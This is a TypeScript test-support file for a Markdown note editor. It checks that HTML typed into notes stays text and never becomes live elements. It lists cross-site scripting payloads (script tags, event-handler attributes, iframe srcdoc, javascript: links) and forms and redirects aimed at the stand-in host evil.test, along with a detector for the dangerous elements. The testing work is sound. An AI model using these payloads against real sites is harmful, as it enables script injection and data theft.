import { afterEach, beforeAll, expect, vi } from 'vitest';
import { drawMath } from '../views/draw-math.ts';
import { startEditor } from '../views/test-support/start-editor.ts';

/** HTML that would do something, were it part of a document. */
export const payloads: readonly string[] = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"></svg>',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<style>body { display: none }</style>',
  '<details open ontoggle="window.hit = 1"><summary>s</summary></details>',
  '<form action="https://evil.test"><input name="secret"><button>send</button></form>',
  '<object data="https://evil.test"></object>',
  '<video src=x onerror="window.hit = 1"></video>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<a href="javascript:window.hit = 1" onclick="window.hit = 1">go</a>',
  '<!-- <script>window.hit = 1</script> -->',
  '"><script>window.hit = 1</script>',
];

/** Where Markdown takes a text, and what else could be made of it there. */
export const places: readonly (readonly [name: string, (html: string) => string])[] = [
  ['a block', (html) => `before\n\n${html}\n\nafter\n`],
  ['a line', (html) => `before ${html} after\n`],
  ['an item', (html) => `- ${html}\n- b ${html}\n`],
  ['a quote', (html) => `> ${html}\n`],
  ['a heading', (html) => `# a ${html}\n`],
  ['a cell', (html) => `| ${html} | b |\n| --- | --- |\n| c | d ${html} |\n`],
  ['bold text', (html) => `**a ${html} b**\n`],
  ['a title', (html) => `[a](b.md '${html}') ![c](d.png '${html}')\n`],
  ['the text of a link', (html) => `[a ${html} b](c.md)\n`],
  ['the description of an image', (html) => `![a ${html} b](c.png)\n`],
  ['an address', (html) => `[a](<${html.replace(/[<>]/g, '')}>) ![b](<${html.replace(/[<>]/g, '')}>)\n`],
  ['code', (html) => `\`${html}\`\n\n\`\`\`${html}\n${html}\n\`\`\`\n`],
  ['a callout', (html) => `> [!note] ${html}\n> ${html}\n`],
  ['a link to a note', (html) => `[[a|${html}]] ![[${html}]]\n`],
  ['a footnote', (html) => `a[^${html.replace(/\W/g, '')}] b[^1]\n\n[^1]: ${html}\n`],
  ['a definition', (html) => `[a]\n\n[a]: b.md '${html}'\n`],
  ['a comment', (html) => `a %%${html}%% b\n\n%%\n${html}\n%%\n`],
  ['a formula', (html) => `a $${html}$ b\n\n$$\n${html}\n$$\n`],
];

const elements =
  'script, iframe, frame, object, embed, style, link, meta, base, form, details, summary, video, audio, svg:not(.katex *, .callout-icon *)';

/** What other tests have left in the document. */
let others = new Set<Element>();

/** Prepares a test file: formulas are drawn at once, and what is in the document so far is no finding. */
export function watchDocument(): void {
  beforeAll(async () => {
    const element = document.createElement('span');
    drawMath(element, 'x', false);
    await vi.waitFor(() => expect(element.querySelector('.katex')).not.toBeNull());
    others = new Set(document.querySelectorAll('*'));
  });
  afterEach(() => {
    vi.restoreAllMocks();
    document.body.replaceChildren();
  });
}

/** All elements that only the HTML of a note could have created. */
export function fromHtml(): string[] {
  const all = [...document.querySelectorAll(elements)].filter((element) => !others.has(element));
  const found = all.map(({ outerHTML }) => outerHTML);
  for (const element of document.body.querySelectorAll('*')) {
    const isOurs = element.matches('.ProseMirror-separator, [type="checkbox"]');
    if (/^(?:img|input)$/i.test(element.tagName) && !isOurs) found.push(element.outerHTML);
    for (const { name, value } of element.attributes) {
      if (/^on|^srcdoc$|^action$/i.test(name)) found.push(`${name}=${value}`);
      if (/^(?:href|src)$/i.test(name) && canRun(value)) found.push(`${name}=${value}`);
    }
  }
  return found;
}

/** Parses an address as a browser does, without whitespace and control characters. */
const canRun = (address: string): boolean =>
  /^(?:javascript|vbscript|data):/i.test([...address].filter((character) => character > ' ').join(''));

/** Expects that a note with `html` in it shows that as text, also after it was changed, drawn again and saved. */
export function expectText(source: string, html: string): void {
  const { body, editor } = startEditor(source);
  expect(fromHtml(), source).toEqual([]);
  editor.commands.insertContentAt(editor.state.doc.content.size, {
    type: 'paragraph',
    content: [{ type: 'text', text: html }],
  });
  expect(fromHtml(), source).toEqual([]);
  const again = startEditor(body.content());
  expect(fromHtml(), body.content()).toEqual([]);
  expect(document.body.textContent).toContain(/\w+/.exec(html)?.[0]);
  body.destroy();
  again.body.destroy();
  document.body.replaceChildren();
}
